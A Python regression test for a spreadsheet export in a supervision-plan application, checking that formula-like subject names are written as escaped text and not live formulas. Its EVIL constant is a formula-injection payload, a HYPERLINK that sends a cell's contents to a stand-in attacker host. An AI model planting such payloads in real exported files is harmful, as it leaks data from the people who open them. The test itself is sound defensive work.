"""The plan exports write a subject named like a formula as text (security finding: ~100 live
formula cells in /supervision/plans/<id>/export.xlsx)."""

from __future__ import annotations

import io
from types import SimpleNamespace

from openpyxl import load_workbook

from supervision import export

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def test_public_workbook_has_no_formula_cell(monkeypatch):
    plan = SimpleNamespace(name=EVIL, public_note="+1")
    row = SimpleNamespace(position=1, subject_name=EVIL, subject_code="@x", date_from=None,
                          date_to=None, inspectors="-张三")
    monkeypatch.setattr(export, "public_plan_rows", lambda plan: [row])
    ws = load_workbook(io.BytesIO(export.public_workbook(plan=plan))).active
    cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert "'" + EVIL in [c.value for c in cells]
